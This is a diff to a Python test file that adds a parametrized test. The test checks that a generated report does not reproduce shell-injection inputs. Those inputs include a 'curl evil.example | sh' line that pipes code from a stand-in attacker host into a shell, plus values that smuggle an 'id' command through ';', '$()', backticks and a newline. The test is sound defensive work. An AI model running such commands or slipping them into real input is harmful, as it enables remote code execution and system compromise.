@@ -3,6 +3,7 @@
 import re
 from datetime import date
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -126,3 +127,20 @@ def test_table_and_marker_hold_no_value_and_no_run() -> None:
     assert "s3cret-value" not in rest
     assert "night-" not in body
     assert date.fromisoformat(re.findall(r"\d{4}-\d\d-\d\d", rest)[0]) == NOW.date()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh",
+        "harness drift s; id",
+        "harness drift $(id)",
+        "harness drift s\nid",
+        "harness drift `id`",
+    ],
+)
+def test_a_report_puts_no_other_command_before_who_copies_it(command: str) -> None:
+    state = begin("drive_thru", "get_order", "breaking", [finding()], looked(finding()))
+    assert command not in draft_of(state, command, findings=[finding()]).body
+    shown = "harness drift 'a b' --case order-1 --tool get_*"
+    assert shown in draft_of(state, shown, findings=[finding()]).body
